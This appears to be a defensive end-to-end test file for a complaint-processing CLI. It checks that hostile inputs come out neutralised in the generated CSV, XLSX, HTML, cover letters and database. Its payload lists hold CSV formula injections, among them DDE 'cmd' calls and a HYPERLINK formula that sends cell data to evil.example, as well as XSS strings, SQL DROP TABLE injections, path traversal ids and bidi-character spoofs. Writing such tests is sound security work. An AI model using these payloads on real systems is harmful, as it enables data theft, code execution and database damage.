"""Hostile inputs end to end (DESIGN.md §10): attacker-written complaint texts, 5656 SMS texts, request ids and
request fields go through the real CLI (`subflag run`, then `subflag package`) and come out inert.

The inbox is a small simulated world plus planted rows: hotline/web complaints and 5656 texts about the
simulated scammers, a protected number (a spoofing alert) and the ported scammer that request
432/STTTT-TTra names (so every payload reaches that request's package ``complaints.csv``), and requests
whose ids and fields carry the payloads. Every path the run touches (inbox, warehouse, lake, out, keys,
DuckDB spill folder, Python's temp folder, the working directory) lives under one temporary root.

What "neutralised" means, per output type (decided here, enforced by the writers):

* CSV / XLSX cells: no cell starts with ``= + - @`` TAB or CR unless it is a plain number (``+84…``,
  ``-5``); the writers prefix an apostrophe. XLSX cells are string cells, never formulas. Invisible
  controls — C0/C1 controls (NUL …), bidi embeddings/overrides/isolates/marks (U+202E …) and zero-width
  space, word joiner and BOM — are shown as ``[U+202E]``-style tokens, so a number or an id can't be
  displayed reversed or two different ids look identical. TAB and line breaks inside a cell stay.
* HTML report: every value escaped (no ``<script``, no ``onerror=``, no ``javascript:`` link built from
  data), the same invisible controls shown as tokens; the terminal summary the same.
* Cover letter (.txt / .docx): one line per outside value, XML-illegal controls dropped, bidi and
  zero-width controls shown as tokens; the .docx is written through python-docx, so markup is text.
* manifest.json: the request echoed exactly as the authority sent it (JSON-escaped, not displayed);
  it is what the signature covers and what the authority matches its reference against.
* Warehouse: complaint text as received after the intake's cleaning (controls, bidi and zero-width
  removed, capped at ``categories.content.max_chars``); SQL payloads stored literally as text.
* Paths: a request id becomes a file name only through ``slugify_request_id`` (``../../etc/x`` →
  ``etc-x.zip`` inside ``out/<date>/<carrier>/packages``); ids with control characters are refused.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import html.parser
import re
import tempfile
import time
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest
from typer.testing import CliRunner

from flows.cli import app
from tests.flows.conftest import copy_config
from transforms.config import load_config
from transforms.requests import slugify_request_id
from transforms.simulate import SimulationSpec, simulate_inbox

RUN_DATE = date(2024, 3, 5)
PROTECTED = "0692348560"  # the police duty line the simulator spoofs (config/protected.toml)

# Each payload carries a marker (HXnn) after its dangerous start, to find it again in the outputs.
PAYLOADS: dict[str, str] = {
    "hyperlink": '=HYPERLINK("http://evil.example/HX01?d="&A1,"Xem chi tiết")',
    "plus_cmd": "+cmd|' /C calc HX02'!A0",
    "minus": "-2+3+cmd|' /C calc HX03'!A0",
    "at_sum": "@SUM(1+1)*cmd|' /C calc HX04'!A0",
    "dde": "=cmd|'/c calc HX05'!A1",
    "tab": "\t=1+1 HX06",
    "cr": "\r=1+1 HX07",
    "script": "<script>alert('HX08')</script>",
    "img": '<img src=x onerror="alert(\'HX09\')">',
    "js_url": '<a href="javascript:alert(\'HX10\')">bấm vào đây</a>',
    "textarea": "</textarea><svg onload=alert('HX11')>",
    "sql_drop": "'; DROP TABLE stg_complaints; -- HX12",
    "sql_quotes": "O'Brien \"HX13\" `x` $run_date $1 ? ;--",
    "nul": "trúng thưởng\x00HX14 gọi lại",
    "bidi": "gọi lại số \u202e8765432190\u202c HX15",
    "zero_width": "ngân\u200bhàng\u2060HX16\ufeff",
    "long": "HX17 " + "lừa đảo " * 12_500,  # 100 kB
}
SQL_PAYLOAD = PAYLOADS["sql_drop"]
# request ids: path traversal, absolute, reserved device name, over-long, markup, formula, SQL, bidi, zero width
HOSTILE_IDS = [
    "../../etc/x", "..\\..\\windows\\HX21", "/abs/path/HX22", "CON", "HX23/" + "9" * 280,
    "<script>alert('HX24')</script>", '=HYPERLINK("http://evil.example/HX25")', "-2+3 HX26", "@SUM(HX27)",
    "'; DROP TABLE stg_requests; -- HX28", "432\u202eHX29.exe", "4\u200b32/HX30",
]
REFUSED_IDS = ["nul\x00HX31", "x" * 100_000]  # control characters / over-long: refused with a message, never a path
TRIGGER = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?[0-9]+(\.[0-9]+)?$")
INVISIBLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff]")
runner = CliRunner()


@dataclass(frozen=True)
class World:
    root: Path
    config: Path
    inbox: Path
    warehouse: Path
    lake: Path
    out: Path
    keys: Path
    spill: Path
    tmp: Path
    cwd: Path
    truth: dict
    before: dict[str, str]
    after: dict[str, str]
    outside_before: set[str]
    outside_after: set[str]
    run_output: str
    package_outputs: list[str]
    seconds: dict[str, float]

    @property
    def holder(self) -> str:
        """The carrier that holds the ported scammer now: every planted request is packaged there."""
        return self.truth["ported"]["holder"]


def private_config(dest: Path, root: Path) -> Path:
    """The project's config with every path the run could write under the test's root."""
    config = copy_config(dest)
    run = config / "run.toml"
    text = run.read_text(encoding="utf-8")
    for key, value in {"signing_keys": root / "keys", "pseudonym_key": root / "keys" / "pseudonym.key",
                       "temp_directory": root / "spill", "inbox": root / "inbox", "warehouse": root / "warehouse.duckdb",
                       "lake": root / "lake", "out": root / "out"}.items():
        text, n = re.subn(rf"^{key} = .*$", f'{key} = "{value}"', text, flags=re.MULTILINE)
        assert n == 1, f"run.toml has no {key} line"
    run.write_text(text, encoding="utf-8")
    return config


def tree(root: Path) -> dict[str, str]:
    """Every file and folder under ``root`` → a digest of its bytes (files) or "dir"."""
    found: dict[str, str] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames:
            found[os.path.relpath(os.path.join(dirpath, name), root)] = "dir"
        for name in filenames:
            path = os.path.join(dirpath, name)
            with open(path, "rb") as fh:
                found[os.path.relpath(path, root)] = hashlib.sha256(fh.read()).hexdigest()
    return found


def e164(loose: str) -> str:
    digits = re.sub(r"\D", "", loose)
    return "+84" + (digits[2:] if digits.startswith("84") and len(digits) >= 11 else digits.lstrip("0"))


def national(number: str) -> str:
    return "0" + e164(number)[3:]


def plant_complaints(inbox: Path, truth: dict, labels: pl.DataFrame) -> None:
    """Every payload as a hotline/web complaint about the ported scammer (→ package complaints.csv), and as the
    latest complaint about one scammer each (→ the report's excerpts), the protected line (→ spoofing alerts)."""
    ported = national(truth["ported"]["ported_scammers"][0])
    scammers = [national(n) for n in labels.filter(pl.col("expected") == "block")["msisdn"].sort().to_list()]
    scammers = [n for n in scammers if n != ported]
    rows = []
    for i, (name, text) in enumerate(PAYLOADS.items()):
        rows.append([f"KNHX{i:02d}P", f"2024-03-05 12:{i:02d}:00", "hotline", ported, "fraud", "0912000001", text, ""])
        rows.append([f"KNHX{i:02d}S", f"2024-03-05 23:59:{i:02d}", "web", scammers[i % len(scammers)], "fraud",
                     f"09120001{i:02d}", text, ""])
    for i, name in enumerate(("script", "img", "js_url", "textarea")):  # the last one wins the spoofing excerpt
        rows.append([f"KNHX{i:02d}Q", f"2024-03-05 23:58:{i:02d}", "hotline", PROTECTED, "impersonation",
                     f"09120002{i:02d}", PAYLOADS[name], ""])
    # the complaint id, the reported number as typed and the reporter are attacker-written too
    rows.append(["=HYPERLINK(\"http://evil.example/HX40\")", "2024-03-05 12:30:00", "web", ported, "fraud",
                 "0912000003", "id là công thức", ""])
    rows.append(["<b>KNHX41</b>", "2024-03-05 12:31:00", "web", f"\u202e{ported}", "fraud", "0912000004",
                 "số có ký tự đảo chiều", ""])
    rows.append(["-1+1 HX42", "2024-03-05 12:32:00", "web", f"{ported[:4]}\u200b{ported[4:]}", "fraud", "0912000005",
                 "số có ký tự rộng không", ""])
    with (inbox / "complaints" / "complaints_hostile_20240305.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["complaint_id", "received_at", "channel", "reported_number", "category", "reporter",
                         "description", "occurred_at"])
        writer.writerows(rows)
    # an inbox file whose name is markup and a formula: file names reach the report's ledger table
    with (inbox / "complaints" / "=cmd|' calc HX43'!A1 <img src=x onerror=alert(1)>.csv").open(
            "w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["complaint_id", "received_at", "channel", "reported_number", "category", "reporter",
                         "description", "occurred_at"])
        writer.writerow(["KNHX43", "2024-03-05 12:40:00", "web", "not a number", "fraud", "0912000006", "x", ""])


def plant_5656(inbox: Path, labels: pl.DataFrame) -> None:
    """The payloads as 5656 SMS reports (V(number) text gui 5656) about the scammers."""
    scammers = [national(n) for n in labels.filter(pl.col("expected") == "block")["msisdn"].sort().to_list()]
    with (inbox / "reports_5656" / "reports_5656_hostile_20240305.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["received_at", "reporter", "message", "report_id"])
        for i, text in enumerate(PAYLOADS.values()):
            writer.writerow([f"2024-03-05 22:{i:02d}:00", f"8491200030{i % 10}",
                             f"V({scammers[-1 - i % len(scammers)]}) {text} gui 5656", f"=R5656-HX{i:02d}"])


def request_doc(request_id: str, numbers: list[str], fields: list[str], **extra: str) -> dict:
    return {"request_id": request_id, "authority": extra.get("authority", "Công an TP. Cần Thơ"),
            "received_at": "2024-03-05T08:00:00+07:00", "due_at": "2024-03-06T17:00:00+07:00",
            "legal_basis": extra.get("legal_basis", "Nghị định 49/2017/NĐ-CP"), "requested_action": "information",
            "numbers": numbers, "fields": fields, "period": {"from": "2024-03-04", "to": "2024-03-05"}}


def plant_requests(inbox: Path, truth: dict) -> None:
    ported = truth["ported"]["ported_scammers"][0]
    for i, request_id in enumerate(HOSTILE_IDS):
        doc = request_doc(request_id, [ported], ["complaints"],
                          authority=list(PAYLOADS.values())[i % 12] + " Công an",
                          legal_basis=list(PAYLOADS.values())[(i + 5) % 12] + " Nghị định 49/2017/NĐ-CP")
        (inbox / "requests" / f"hostile_{i:02d}.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    for i, request_id in enumerate(REFUSED_IDS):
        (inbox / "requests" / f"<img src=x onerror=alert({i})> refused_{i}.json").write_text(
            json.dumps(request_doc(request_id, [ported], ["complaints"])), encoding="utf-8")
    # a number that is itself a payload: refused as a number, named in the letter as the authority wrote it
    doc = request_doc("HX32/numbers", [ported, "=1+1", "<script>alert('HX32')</script>", "\u202e0912345678"],
                      ["complaints", "subscriber"])
    (inbox / "requests" / "hostile_numbers.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")


def cli(*args: str | Path) -> object:
    return runner.invoke(app, [str(a) for a in args], catch_exceptions=False)


@pytest.fixture(scope="module")
def world(tmp_path_factory, prefect_harness) -> World:
    root = tmp_path_factory.mktemp("hostile")
    config = private_config(root / "config", root)
    settings = load_config(config)
    simulate_inbox(SimulationSpec(subscribers=600, days=2, end_date=RUN_DATE, seed=3), settings, root / "inbox",
                   root / "truth")
    truth = json.loads((root / "truth" / "summary.json").read_text(encoding="utf-8"))
    labels = pl.read_csv(root / "truth" / "labels.csv", infer_schema=False)
    (truth["ported"]["holder"],) = labels.filter(pl.col("msisdn") == truth["ported"]["ported_scammers"][0])["current_carrier"]
    plant_complaints(root / "inbox", truth, labels)
    plant_5656(root / "inbox", labels)
    plant_requests(root / "inbox", truth)
    extra = root / "extra"
    extra.mkdir()
    ported = truth["ported"]["ported_scammers"][0]
    (extra / "outside.json").write_text(json.dumps(request_doc("../../../../outside/HX33", [ported], ["subscriber"]),
                                                   ensure_ascii=False), encoding="utf-8")
    # nobody holds the number: the command names the request on the terminal
    (extra / "not_held.json").write_text(json.dumps(request_doc("NH\u202eHX34", [truth["unassigned_number"]], ["complaints"]),
                                                    ensure_ascii=False), encoding="utf-8")
    for name in ("tmp", "cwd"):
        (root / name).mkdir()
    w = World(root, config, root / "inbox", root / "warehouse.duckdb", root / "lake", root / "out", root / "keys",
              root / "spill", root / "tmp", root / "cwd", truth, {}, {}, set(), set(), "", [], {})
    outside = root.parent
    outside_before = {p.name for p in outside.iterdir()} - {root.name}
    before = tree(root)
    seconds: dict[str, float] = {}
    with pytest.MonkeyPatch.context() as mp:
        mp.chdir(w.cwd)
        mp.setattr(tempfile, "tempdir", str(w.tmp))
        started = time.perf_counter()
        result = cli("run", "--date", RUN_DATE.isoformat(), "--config", config)
        seconds["run"] = time.perf_counter() - started
        assert result.exit_code == 0, result.output
        outputs = []
        for request in (extra / "outside.json", w.inbox / "requests" / "hostile_00.json", extra / "not_held.json"):
            started = time.perf_counter()
            packaged = cli("package", "--request", request, "--date", RUN_DATE.isoformat(), "--out", w.out / "cli",
                           "--config", config)
            seconds[f"package {request.name}"] = time.perf_counter() - started
            assert packaged.exit_code == 0, packaged.output
            outputs.append(packaged.output)
    after = tree(root)
    return World(**{**w.__dict__, "before": before, "after": after, "outside_before": outside_before,
                    "outside_after": {p.name for p in outside.iterdir()} - {root.name},
                    "run_output": result.output, "package_outputs": outputs, "seconds": seconds})


# ------------------------------------------------------------------------------------------------ helpers


def zip_members(path: Path) -> dict[str, bytes]:
    """A zip's members; a .docx inside a package is opened too (``pkg.zip!cover_letter.docx!word/document.xml``)."""
    found: dict[str, bytes] = {}
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            found[name] = data
            if name.endswith((".docx", ".xlsx")):
                found.update({f"{name}!{k}": v for k, v in zip_members(io.BytesIO(data)).items()})  # type: ignore[arg-type]
    return found


def csv_tables(out: Path) -> dict[str, list[list[str]]]:
    """Every CSV under ``out``, files and package members, parsed the way a spreadsheet would split it."""
    texts = {str(p.relative_to(out)): p.read_bytes() for p in out.rglob("*.csv")}
    for z in out.rglob("*.zip"):
        texts.update({f"{z.relative_to(out)}!{n}": b for n, b in zip_members(z).items() if n.endswith(".csv")})
    return {where: list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))) for where, data in texts.items()}


def executable(cell: str) -> bool:
    return bool(TRIGGER.match(cell)) and not PLAIN_NUMBER.match(cell)


class Markup(html.parser.HTMLParser):
    """Tags, attributes and text of an HTML document as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):  # noqa: ANN001 - HTMLParser's signature
        self.tags.append((tag, attrs))

    def handle_data(self, data):  # noqa: ANN001
        self.text.append(data)


def markup(text: str) -> Markup:
    parser = Markup()
    parser.feed(text)
    parser.close()
    return parser


def assert_inert_markup(doc: str, where: str) -> None:
    """No element, event handler or javascript: URL that data could have introduced."""
    parsed = markup(doc)
    tags = {t for t, _ in parsed.tags}
    assert not tags & {"script", "img", "iframe", "object", "embed", "a", "form", "textarea", "link", "base"}, (where, tags)
    for tag, attrs in parsed.tags:
        for name, value in attrs:
            assert not name.lower().startswith("on"), (where, tag, name, value)
            assert not (value or "").strip().lower().startswith("javascript:"), (where, tag, name, value)
    assert not re.search(r"<\s*/?\s*(script|img|iframe|textarea)\b", doc, re.IGNORECASE), where
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", doc, re.IGNORECASE), where


def packages(out: Path) -> dict[str, Path]:
    return {str(p.relative_to(out)): p for p in sorted(out.rglob("*.zip"))}


# ---------------------------------------------------------------------------------------------- (a) spreadsheets


def test_no_csv_or_xlsx_cell_is_executable(world: World):
    tables = csv_tables(world.out)
    assert len(tables) >= 20, sorted(tables)
    bad = [(where, cell[:60]) for where, rows in tables.items() for row in rows for cell in row if executable(cell)]
    assert bad == []
    # the payloads did reach the spreadsheets, as text behind an apostrophe
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    for marker in ("HX01", "HX02", "HX03", "HX04", "HX05", "HX06", "HX07", "HX40", "HX42"):
        hits = [c for c in cells if marker in c]
        assert hits, f"payload {marker} is in no CSV cell: the test did not exercise it"
        assert all(c.startswith("'") for c in hits if not c.startswith(("HX", "KNHX"))), (marker, hits[:3])
    assert "'=HYPERLINK(\"http://evil.example/HX01?d=\"&A1,\"Xem chi tiết\")" in cells
    assert "'-2+3+cmd|' /C calc HX03'!A0" in cells
    xlsx = sorted(world.out.rglob("*.xlsx"))
    assert xlsx
    for path in xlsx:
        workbook = openpyxl.load_workbook(path)
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    assert cell.data_type == "s", (path, cell.coordinate, cell.data_type, cell.value)
                    assert not executable(str(cell.value)), (path, cell.coordinate, cell.value)
        with zipfile.ZipFile(path) as zf:
            sheets = [zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in s or b"<f " in s for s in sheets), f"{path} stores a formula"


# ------------------------------------------------------------------------------------------------ (b) markup


def test_the_report_shows_every_payload_as_escaped_text(world: World):
    report = (world.out / RUN_DATE.isoformat() / "report.html").read_text(encoding="utf-8")
    assert_inert_markup(report, "report.html")
    shown = "\n".join(markup(report).text)
    for payload in (PAYLOADS["script"], PAYLOADS["img"], PAYLOADS["js_url"], PAYLOADS["textarea"],
                    "<script>alert('HX24')</script>", "'; DROP TABLE stg_requests; -- HX28",
                    "=cmd|' calc HX43'!A1 <img src=x onerror=alert(1)>.csv"):
        assert payload in shown, f"{payload!r} is not shown as text in the report"
    assert "&lt;script&gt;alert(&#x27;HX08&#x27;)&lt;/script&gt;" in report


def test_cover_letters_hold_the_payloads_as_text(world: World):
    import docx

    letters = 0
    for where, path in packages(world.out).items():
        members = zip_members(path)
        for name, data in members.items():
            if name.endswith((".xml", ".rels")):  # data is XML text: escaped, never an element or a link
                assert b"<script" not in data and b"<img" not in data and b"<svg" not in data, (where, name)
                assert b"<w:hyperlink" not in data and not (name.endswith(".rels") and b"javascript:" in data), (where, name)
        letter = docx.Document(io.BytesIO(members["cover_letter.docx"]))
        text = "\n".join(p.text for p in letter.paragraphs)
        request = json.loads(members["manifest.json"])["request"]
        if request["authority"].startswith("<"):
            assert " ".join(request["authority"].split()) in text, where
            letters += 1
    assert letters >= 3


# ---------------------------------------------------------------------------------------------- (c) the file system


ALLOWED_TOP = {"out", "lake", "keys", "spill", "tmp", "warehouse.duckdb", "warehouse.duckdb.wal", "warehouse.read.duckdb"}


def test_nothing_is_written_outside_the_configured_folders(world: World):
    changed = {k for k, v in world.after.items() if world.before.get(k) != v}
    removed = set(world.before) - set(world.after)
    assert removed == set()
    outside = sorted(k for k in changed if k.split(os.sep)[0] not in ALLOWED_TOP | {"cwd"})
    assert outside == [], f"written outside out/, the warehouse, lake, keys and temp folders: {outside}"
    assert world.outside_after == world.outside_before, "something appeared beside the test's root"
    assert [k for k in world.after if k.startswith("tmp" + os.sep)] == [], "temporary folders were left behind"
    for path in (world.out / RUN_DATE.isoformat()).rglob("*"):
        assert path.resolve().is_relative_to(world.out.resolve()) and not path.is_symlink(), path


def test_the_working_directory_is_left_alone(world: World):
    assert sorted(k for k in world.after if k.startswith("cwd" + os.sep)) == []


def test_hostile_request_ids_become_sanitised_package_names_inside_out(world: World):
    folder = world.out / RUN_DATE.isoformat() / world.holder / "packages"
    names = {p.name for p in folder.iterdir()}
    for request_id in HOSTILE_IDS:
        slug = slugify_request_id(request_id)
        assert re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]{0,99}", slug) and ".." not in slug, (request_id, slug)
        assert f"{slug}.zip" in names, (request_id, sorted(names))
    assert "etc-x.zip" in names and "req-CON.zip" in names
    assert (world.out / "cli" / RUN_DATE.isoformat() / world.holder / "packages" / "outside-HX33.zip").is_file()
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*\.zip", p.name) for p in packages(world.out).values())
    for output in world.package_outputs:
        for line in output.splitlines():
            if line.startswith("package: "):
                assert Path(line.removeprefix("package: ")).resolve().is_relative_to(world.out.resolve()), line


def test_unusable_request_ids_are_refused_with_a_message_and_no_package(world: World):
    with duckdb.connect(str(world.warehouse), read_only=True) as con:
        failed = con.sql("SELECT source_file, error FROM ingest_log WHERE source_kind = 'requests' AND status = 'failed'").pl()
    assert failed.height == len(REFUSED_IDS)
    assert all("request_id" in e for e in failed["error"].to_list())
    assert any("control characters" in e for e in failed["error"].to_list())
    texts = b"".join(b for z in packages(world.out).values() for b in zip_members(z).values())
    assert b"HX31" not in texts and b"x" * 301 not in texts


# ---------------------------------------------------------------------------------------------- (d) the warehouse


def test_the_warehouse_is_intact_and_holds_the_payloads_literally(world: World):
    from transforms.warehouse import run_folder

    with duckdb.connect(":memory:") as fresh:
        run_folder(fresh, "schema")
        expected = {r[0] for r in fresh.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
    with duckdb.connect(str(world.warehouse), read_only=True) as con:
        tables = {r[0] for r in con.execute("SELECT table_name FROM duckdb_tables()").fetchall()}
        assert expected <= tables, sorted(expected - tables)
        ledger = con.sql("SELECT source_kind, source_file, rows_read, rows_accepted, rows_rejected, rows_duplicate "
                         "FROM ingest_log WHERE status = 'loaded'").pl()
        assert (ledger["rows_read"] == ledger["rows_accepted"] + ledger["rows_rejected"] + ledger["rows_duplicate"]).all()
        per_file = dict(con.execute("SELECT source_file, count(*) FROM stg_complaints GROUP BY ALL").fetchall())
        accepted = dict(zip(ledger["source_file"], ledger["rows_accepted"]))
        complaint_files = ledger.filter(pl.col("source_kind") == "complaints")["source_file"].to_list()
        assert {f: per_file.get(f, 0) for f in complaint_files} == {f: accepted[f] for f in complaint_files}
        hostile = str(world.inbox / "complaints" / "complaints_hostile_20240305.csv")
        assert (accepted[hostile], per_file[hostile]) == (2 * len(PAYLOADS) + 4 + 2, 2 * len(PAYLOADS) + 4 + 2)
        assert per_file[str(world.inbox / "reports_5656" / "reports_5656_hostile_20240305.csv")] == len(PAYLOADS)
        stored = lambda text: con.execute("SELECT count(*) FROM stg_complaints WHERE content = $t",  # noqa: E731
                                          {"t": text}).fetchone()[0]
        assert stored(SQL_PAYLOAD) == 3  # hotline, web and the 5656 text, each exactly as sent
        assert stored(PAYLOADS["sql_quotes"]) == 2 and stored(PAYLOADS["script"]) == 4
        longest = con.execute("SELECT max(length(content)) FROM stg_complaints").fetchone()[0]
        assert longest == load_config(world.config).categories.content.max_chars + 1  # capped, with an ellipsis
        ids = {r[0] for r in con.execute("SELECT request_id FROM stg_requests").fetchall()}
        assert set(HOSTILE_IDS) <= ids and "'; DROP TABLE stg_requests; -- HX28" in ids
        # the hostile ids, HX32/numbers, the two simulated requests, and the two that `subflag package` landed
        assert con.execute("SELECT count(*) FROM stg_requests").fetchone()[0] == len(HOSTILE_IDS) + 1 + 2 + 2


# ------------------------------------------------------------------------------------ (e) invisible characters


def text_outputs(world: World) -> dict[str, str]:
    """What people read: CSV, HTML, the cover letters (text and the .docx XML) and the terminal."""
    found = {str(p.relative_to(world.out)): p.read_text(encoding="utf-8").removeprefix("\ufeff")
             for p in world.out.rglob("*") if p.suffix in (".csv", ".html")}
    for where, path in packages(world.out).items():
        for name, data in zip_members(path).items():
            if name.endswith((".csv", ".txt", ".xml")):
                found[f"{where}!{name}"] = data.decode("utf-8").removeprefix("\ufeff")
    found["subflag run (terminal)"] = world.run_output
    found.update({f"subflag package #{i}": o for i, o in enumerate(world.package_outputs)})
    return found


def test_bidi_nul_and_zero_width_characters_are_shown_not_obeyed(world: World):
    texts = text_outputs(world)
    hidden = [(where, repr(text[max(m.start() - 20, 0):m.end() + 20]))
              for where, text in texts.items() for m in INVISIBLE.finditer(text)]
    assert hidden == []
    report = texts[f"{RUN_DATE.isoformat()}/report.html"]
    assert "432[U+202E]HX29.exe" in report and "4[U+200B]32/HX30" in report
    assert "request NH[U+202E]HX34" in world.package_outputs[2]  # `subflag package` when nobody holds the number
    pkg = f"{RUN_DATE.isoformat()}/{world.holder}/packages"
    letter = texts[f"{pkg}/432-HX29.exe.zip!cover_letter.txt"]
    assert "432[U+202E]HX29.exe" in letter
    complaints = texts[f"{pkg}/432-STTTT-TTra.zip!complaints.csv"]
    assert f"{national(world.truth['ported']['ported_scammers'][0])[:4]}[U+200B]" in complaints  # reported_as
    # manifest.json echoes the request exactly (JSON, not displayed): the signed record of what was asked
    manifest = json.loads(zip_members(packages(world.out)[f"{pkg}/432-HX29.exe.zip"])["manifest.json"])
    assert manifest["request"]["request_id"] == "432\u202eHX29.exe"

